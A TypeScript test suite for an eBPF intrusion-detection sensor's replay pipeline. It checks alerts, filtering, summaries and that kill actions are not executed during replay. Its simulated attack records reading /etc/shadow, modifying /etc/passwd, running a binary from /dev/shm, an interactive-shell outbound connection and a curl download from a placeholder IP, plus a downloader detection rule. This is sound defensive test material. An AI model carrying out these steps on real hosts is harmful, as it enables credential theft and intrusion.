// Replay through the live stages: the same output as the live Pipeline class
// fed by the replay source; new rules give new alerts; windows, filters and
// process views select what they say; the summary counts alerts by rule and
// severity; recorded pace is kept on request; journals replay like captures;
// each capture's host goes with its events; kill actions are never carried out.
import { describe, test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Enricher } from '../../src/enrich/enrich.js';
import { Journal } from '../../src/journal/journal.js';
import type { ClassifiedEvent, HostInfo, SensorEvent } from '../../src/model/event.js';
import { Pipeline } from '../../src/pipeline/pipeline.js';
import { formatSummary } from '../../src/pipeline/replay-summary.js';
import { NORMAL } from '../../src/rules/classifier.js';
import { loadRules } from '../../src/rules/engine.js';
import { ReplaySource } from '../../src/sources/replay/replay-source.js';
import { CaptureReader } from '../../src/sources/replay/capture-reader.js';
import { packageRoot } from '../../src/sources/kernel/paths.js';
import { componentLogger } from '../../src/telemetry/logger.js';
import { EventType } from '../../src/decode/abi.generated.js';
import { sensorEvent } from '../helpers/journal-fixtures.js';
import { Host, O_APPEND, O_CLOEXEC, O_CREAT, O_WRONLY } from '../helpers/rule-workload.js';
import { AGENT, HOST, MemorySink, replayToMemory, tempDir, writeCapture } from '../helpers/replay-fixtures.js';

const dir = tempDir('ebpf-sensor-replay-pipeline-');
const CLI = join(packageRoot, 'bin/ebpf-sensor.js');

/**
 * A host where an intruder gets a shell: reads the password hashes, adds an
 * account, runs a dropped binary from /dev/shm, opens a reverse shell and
 * fetches a tool with curl — amid ordinary server work.
 */
function attack(): { events: SensorEvent[]; h: Host } {
  const h = new Host();
  h.seed(1, 0, '/usr/lib/systemd/systemd', ['/sbin/init']);
  h.seed(50, 1, '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']);
  h.seed(60, 1, '/usr/sbin/sshd', ['sshd', '-D']);
  const noise = (n: number): void => {
    for (let i = 0; i < n; i++) {
      h.open(50, `/srv/www/static/${i % 40}.html`, O_CLOEXEC);
      if (i % 7 === 0) h.open(50, '/var/log/nginx/access.log', O_WRONLY | O_APPEND | O_CREAT);
      if (i % 11 === 0) h.connect(50, [10, 0, 0, 5], 5432);
    }
  };
  noise(300);
  h.rec(EventType.SE_EV_FORK, 60, { args: [200, 200, 200_000_000_000n] });
  h.exec(200, 60, '/usr/bin/bash', ['-bash'], '/root', 0);
  noise(100);
  h.open(200, '/etc/shadow', O_CLOEXEC); // shadow_read_unexpected
  h.open(200, '/etc/passwd', O_WRONLY | O_APPEND); // account_file_modified
  noise(100);
  h.rec(EventType.SE_EV_FORK, 200, { args: [300, 300, 300_000_000_000n] });
  h.exec(300, 200, '/dev/shm/.x', ['/dev/shm/.x'], '/root', 0); // exec_from_dev_shm
  h.rec(EventType.SE_EV_FORK, 300, { args: [301, 301, 301_000_000_000n] });
  h.exec(301, 300, '/usr/bin/bash', ['bash', '-i'], '/root', 0);
  h.connect(301, [127, 0, 0, 1], 4444); // shell_connects_out
  h.rec(EventType.SE_EV_FORK, 301, { args: [302, 302, 302_000_000_000n] });
  h.exec(302, 301, '/usr/bin/curl', ['curl', '-o', '/tmp/t', 'http://203.0.113.9/t'], '/root', 0); // only with the extra rule
  h.rec(EventType.SE_EV_EXIT, 302, { args: [0, 0, 1] });
  noise(200);
  return { events: h.events.splice(0), h };
}

const { events: ATTACK } = attack();
const captureFile = writeCapture(join(dir, 'attack.capture.gz'), ATTACK, { blockBytes: 20_000 });

const EXTRA = join(dir, 'extra.yaml');
writeFileSync(
  EXTRA,
  `- rule: downloader_started
  name: Downloader started by a shell
  desc: curl or wget started by an interactive shell
  condition: ebpf.kind = exec and event.outcome = success and process.name in (curl, wget) and process.parent.name in (shell_binaries)
  output: "%{process.command_line} (parent %{process.parent.executable})"
  severity: medium
  tags: [T1105]
`,
);

const alertIds = (events: readonly ClassifiedEvent[]): string[] => events.flatMap((ce) => ce.verdict.matches.map((m) => `${m.id}@${ce.event.process.pid}`));

describe('replay through the pipeline', () => {
  test('the bundled rules raise the attack\'s alerts; an added rule adds its own and changes nothing else', async () => {
    const file = await captureFile;
    const base = await replayToMemory([file], { events: 'alerts' });
    assert.deepEqual(alertIds(base.events), ['shadow_read_unexpected@200', 'account_file_modified@200', 'exec_from_dev_shm@300', 'shell_connects_out@301']);
    const more = await replayToMemory([file], { events: 'alerts', rules: { bundled: true, paths: [EXTRA] } });
    assert.deepEqual(alertIds(more.events), ['shadow_read_unexpected@200', 'account_file_modified@200', 'exec_from_dev_shm@300', 'shell_connects_out@301', 'downloader_started@302']);
    const curl = JSON.parse(more.lines[4]!) as { rule: { id: string }; message: string; host: { name: string } };
    assert.equal(curl.rule.id, 'downloader_started');
    assert.equal(curl.message, 'curl -o /tmp/t http://203.0.113.9/t (parent /usr/bin/bash)');
    // The earlier alerts are the same but for rule.version, the hash of the rule files, which changed.
    const unversioned = (l: string): unknown => {
      const d = JSON.parse(l) as { rule: { version?: string } };
      delete d.rule.version;
      return d;
    };
    assert.deepEqual(more.lines.slice(0, 4).map(unversioned), base.lines.map(unversioned));
    assert.notEqual((JSON.parse(more.lines[0]!) as { rule: { version: string } }).rule.version, (JSON.parse(base.lines[0]!) as { rule: { version: string } }).rule.version);
  });

  test('same output as the live Pipeline class fed by ReplaySource (same enrich, rules, classification)', async () => {
    const file = await captureFile;
    const viaReplay = await replayToMemory([file], { events: 'all' });
    const collected: ClassifiedEvent[] = [];
    const source = new ReplaySource([file], { localHost: () => ({ host: HOST, agent: AGENT }) });
    const pipeline = new Pipeline({
      source,
      decode: { bootToRealtimeNs: 0n, bootIdPrefix: 'replay00', sequence: 0 },
      enricher: new Enricher({ hostId: HOST.id, seedFromProc: false, resolveContainers: false, resolveNames: false }),
      classifier: loadRules({ bundled: true, paths: [], lists: {} }),
      output: { append: (b) => collected.push(...b), close: async () => undefined },
      log: componentLogger('test'),
      host: HOST,
      events: 'all',
    });
    await pipeline.start();
    await source.done();
    await pipeline.stop();
    const sink = new MemorySink(HOST, AGENT);
    await sink.send(collected);
    assert.equal(sink.lines.length, ATTACK.length);
    assert.deepEqual(sink.lines, viaReplay.lines);
    assert.equal(pipeline.stats.alerts, 4);
  });

  test('issue-15: alerts only, live and replay keep the same events: the alerts and the loss reports (one classifyInto)', async () => {
    const loss = sensorEvent(9_000_001);
    delete loss.file;
    loss['@timestamp'] = ATTACK[ATTACK.length - 1]!['@timestamp'];
    loss.event = { id: 'loss-1', sequence: 9_000_001, action: 'events-lost', outcome: 'failure' };
    loss.ebpf = { kind: 'loss', syscall: 'none', loss: { kernel: 7, reader: 0, per_cpu: [7], interval_s: 10 } };
    const events = [...ATTACK.slice(0, 700), loss, ...ATTACK.slice(700)].map((e) => structuredClone(e));
    const file = await writeCapture(join(dir, 'attack-loss.capture.gz'), events, { blockBytes: 20_000 });
    // noFastPath: every event through `handle`, the code the live pipeline shares.
    const viaReplay = await replayToMemory([file], { events: 'alerts', noFastPath: true });
    const collected: ClassifiedEvent[] = [];
    const source = new ReplaySource([file], { localHost: () => ({ host: HOST, agent: AGENT }) });
    const pipeline = new Pipeline({
      source,
      decode: { bootToRealtimeNs: 0n, bootIdPrefix: 'replay00', sequence: 0 },
      enricher: new Enricher({ hostId: HOST.id, seedFromProc: false, resolveContainers: false, resolveNames: false }),
      classifier: loadRules({ bundled: true, paths: [], lists: {} }),
      output: { append: (b) => collected.push(...b), close: async () => undefined },
      log: componentLogger('test'),
      host: HOST,
      events: 'alerts',
    });
    await pipeline.start();
    await source.done();
    await pipeline.stop();
    const sink = new MemorySink(HOST, AGENT);
    await sink.send(collected);
    assert.equal(pipeline.stats.alerts, 4);
    assert.equal(collected.length, 5, 'four alerts and the loss report');
    assert.equal(collected.filter((ce) => ce.event.ebpf.kind === 'loss').length, 1);
    assert.deepEqual(sink.lines, viaReplay.lines);
  });

  test('output carries the recording host and agent from the capture header, not this machine', async () => {
    const other: HostInfo = { ...HOST, name: 'db-07', hostname: 'db-07.example.internal', id: '0123456789abcdef0123456789abcdef', ip: ['10.9.9.9'] };
    const a = await writeCapture(join(dir, 'host-a.capture.gz'), attack().events);
    const b = await writeCapture(join(dir, 'host-b.capture.gz'), attack().events, { host: other, agent: { ...AGENT, name: 'db-07' } });
    const r = await replayToMemory([a, b], { events: 'alerts' });
    const hosts = r.lines.map((l) => (JSON.parse(l) as { host: { name: string }; agent: { name: string } }).host.name);
    assert.deepEqual(hosts, ['web-01', 'web-01', 'web-01', 'web-01', 'db-07', 'db-07', 'db-07', 'db-07']);
    // Each host has its own process table: replaying b after a gives what b alone gives.
    const alone = await replayToMemory([b], { events: 'alerts' });
    assert.deepEqual(r.lines.slice(4), alone.lines);
  });

  test('--since/--until select a window of @timestamp; --filter selects with the rule language (macros and lists too)', async () => {
    const file = await captureFile;
    const all = await replayToMemory([file], { events: 'all' });
    const ts = ATTACK.map((e) => e['@timestamp']);
    const since = ts[400]!;
    const until = ts[700]!;
    const win = await replayToMemory([file], { events: 'all', since, until });
    assert.equal(win.lines.length, 300);
    assert.deepEqual(win.lines, all.lines.slice(400, 700));
    const f = await replayToMemory([file], { events: 'all', filter: 'open_write and file.path in (account_files)' });
    assert.deepEqual(
      f.events.map((ce) => ce.event.file?.path),
      ['/etc/passwd'],
    );
    const shells = await replayToMemory([file], { events: 'all', filter: 'process.name in (shell_binaries) and ebpf.kind = connect' });
    assert.deepEqual(
      shells.events.map((ce) => [ce.event.process.pid, ce.verdict.classification]),
      [[301, 'suspicious']],
    );
    await assert.rejects(replayToMemory([file], { filter: 'process.nme = bash' }), (e: Error & { code?: string; location?: string }) => {
      assert.equal(e.code, 'ESENSOR_RULE_SEMANTIC');
      assert.equal(e.location, '--filter:1:1');
      assert.match(e.message, /unknown field "process.nme"/);
      return true;
    });
  });

  test('--process: the process and its descendants, the fork/exec/exit of its ancestors, the ancestry in the summary', async () => {
    const file = await captureFile;
    const all = await replayToMemory([file], { events: 'all' });
    const shell = all.events.find((ce) => ce.event.process.pid === 300 && ce.event.ebpf.kind === 'exec')!.event.process.entity_id;
    const r = await replayToMemory([file], { events: 'all', process: shell });
    const seen = r.events.map((ce) => `${ce.event.process.pid}:${ce.event.ebpf.kind}`);
    // 300 and its descendants 301, 302: everything they did.
    for (const pid of [300, 301, 302]) assert.ok(seen.some((s) => s.startsWith(`${pid}:`)), `${pid} missing from ${seen.join(' ')}`);
    assert.ok(seen.includes('301:connect') && seen.includes('302:exit'));
    // The ancestors 200 (bash) and 60 (sshd): their lifecycle only, not their opens.
    assert.ok(seen.includes('200:exec') && seen.includes('200:fork'));
    assert.ok(!seen.includes('200:open'), 'the ancestors\' other events are left out');
    assert.ok(!seen.some((s) => s.startsWith('50:')), 'unrelated processes are left out');
    assert.deepEqual(
      r.summary.ancestry!.map((n) => [n.pid, n.executable]),
      [
        [60, '/usr/sbin/sshd'],
        [200, '/usr/bin/bash'],
        [300, '/dev/shm/.x'],
      ],
    );
    assert.equal(r.summary.processes, 3);
    assert.match(formatSummary(r.summary), /process tree: 3 processes; ancestry \(oldest first\):\n {2}60 \/usr\/sbin\/sshd/);
    // The same lines as in the full replay: selection never changes a document.
    for (const line of r.lines) assert.ok(all.lines.includes(line));
    await assert.rejects(replayToMemory([file], { process: 'no-such-entity' }), /no event of this process/);
  });

  test('summary: alerts by rule and severity, matching what was written', async () => {
    const file = await captureFile;
    const r = await replayToMemory([file], { events: 'alerts', rules: { bundled: true, paths: [EXTRA] } });
    assert.equal(r.summary.alerts, 5);
    assert.equal(r.summary.written, 5);
    assert.deepEqual(r.summary.bySeverity, { critical: 1, high: 2, medium: 2, low: 0 });
    assert.deepEqual(
      r.summary.byRule.map((x) => [x.rule, x.severity, x.count]),
      [
        ['shell_connects_out', 'critical', 1],
        ['account_file_modified', 'high', 1],
        ['exec_from_dev_shm', 'high', 1],
        ['downloader_started', 'medium', 1],
        ['shadow_read_unexpected', 'medium', 1],
      ],
    );
    const text = formatSummary(r.summary);
    assert.match(text, /alerts: 5 \(critical 1, high 2, medium 2\)/);
    assert.match(text, /shell_connects_out\s+critical\s+1/);
  });

  test('replay never carries out a kill: the process named by a kill rule lives on', async () => {
    const sleeper = spawn('sleep', ['60'], { stdio: 'ignore' });
    after(() => sleeper.kill('SIGKILL'));
    const pid = sleeper.pid!;
    await new Promise((r) => sleeper.once('spawn', r)); // running: its /proc entry is there
    // The real process: its pid and start time, as the killer would check them.
    const stat = readFileSync(`/proc/${pid}/stat`, 'latin1');
    const startTicks = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19]);
    const ev = sensorEvent(1, '/etc/shadow');
    ev.process.pid = pid;
    ev.process.thread.id = pid;
    ev.ebpf.process = { ...ev.ebpf.process, start_boot_ns: String(BigInt(startTicks) * 10_000_000n) };
    const file = await writeCapture(join(dir, 'kill.capture.gz'), [ev]);
    const rules = join(dir, 'kill.yaml');
    writeFileSync(rules, '- rule: kill_shadow\n  desc: stop readers of the hashes\n  condition: ebpf.kind = open and file.path = /etc/shadow\n  output: "%{process.pid}"\n  severity: critical\n  action: kill\n');
    const r = await replayToMemory([file], { events: 'alerts', rules: { bundled: false, paths: [rules] } });
    assert.equal(r.events.length, 1);
    const m = r.events[0]!.verdict.matches[0]!;
    assert.equal(m.action, 'kill');
    assert.equal(m.kill, undefined, 'no kill report: nothing was done');
    assert.ok(!('kill' in (JSON.parse(r.lines[0]!) as { ebpf: object }).ebpf));
    assert.doesNotThrow(() => process.kill(pid, 0), 'the process is alive');
    assert.equal(sleeper.exitCode, null);
    assert.equal(sleeper.signalCode, null);
  });

  test('--speed recorded keeps the recorded pace; max does not wait', async () => {
    const base = sensorEvent(1);
    const t0 = Date.parse('2026-11-23T16:12:00Z');
    const events = [0, 150, 300, 450].map((ms, i) => ({ ...structuredClone(base), '@timestamp': new Date(t0 + ms).toISOString().replace('Z', '000000Z'), event: { ...base.event, id: `p${i}` } }));
    const file = await writeCapture(join(dir, 'pace.capture.gz'), events);
    let t = performance.now();
    await replayToMemory([file], { speed: 1 });
    const paced = performance.now() - t;
    assert.ok(paced >= 420, `recorded pace: ${paced.toFixed(0)} ms for 450 ms of events`);
    t = performance.now();
    await replayToMemory([file], { speed: 3 });
    const fast = performance.now() - t;
    assert.ok(fast >= 130, `3x: ${fast.toFixed(0)} ms for 150 ms`);
  });

  test('a journal directory replays like a capture of the same events; journal export writes that capture', async () => {
    const jdir = join(dir, 'journal');
    const j = Journal.open(jdir, { fsyncIntervalMs: 0 });
    j.append(ATTACK.map((event) => ({ event: structuredClone(event), verdict: NORMAL })));
    await j.close();
    const fromJournal = await replayToMemory([jdir], { events: 'alerts' });
    const fromCapture = await replayToMemory([await captureFile], { events: 'alerts' });
    assert.deepEqual(fromJournal.lines, fromCapture.lines);
    // Export a window with a filter, then replay the export.
    const out = join(dir, 'export.capture.gz');
    const since = ATTACK[300]!['@timestamp'];
    const r = spawnSync(process.execPath, [CLI, 'journal', 'export', '--journal', jdir, '-o', out, '--since', since, '--filter', 'not process.name = nginx'], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    const expected = ATTACK.filter((e) => e['@timestamp'] >= since && e.process.name !== 'nginx');
    assert.match(r.stderr, new RegExp(`exported ${expected.length} of ${ATTACK.length} journal events to ${out}`));
    const reader = CaptureReader.open(out);
    assert.equal(reader.header.source.kind, 'journal');
    assert.equal(reader.header.source.filter, 'not process.name = nginx');
    assert.equal(reader.header.source.since, since);
    assert.equal(reader.header.events, expected.length);
    assert.deepEqual(reader.header.time, { from: expected[0]!['@timestamp'], to: expected[expected.length - 1]!['@timestamp'] });
    reader.close();
    const exported = await replayToMemory([out], { events: 'all' });
    assert.deepEqual(
      exported.events.map((ce) => ce.event),
      expected,
      'the events exported are the journal\'s, unchanged',
    );
    const again = await replayToMemory([out], { events: 'alerts' });
    assert.deepEqual(alertIds(again.events), ['shadow_read_unexpected@200', 'account_file_modified@200', 'exec_from_dev_shm@300', 'shell_connects_out@301']);
  });
});
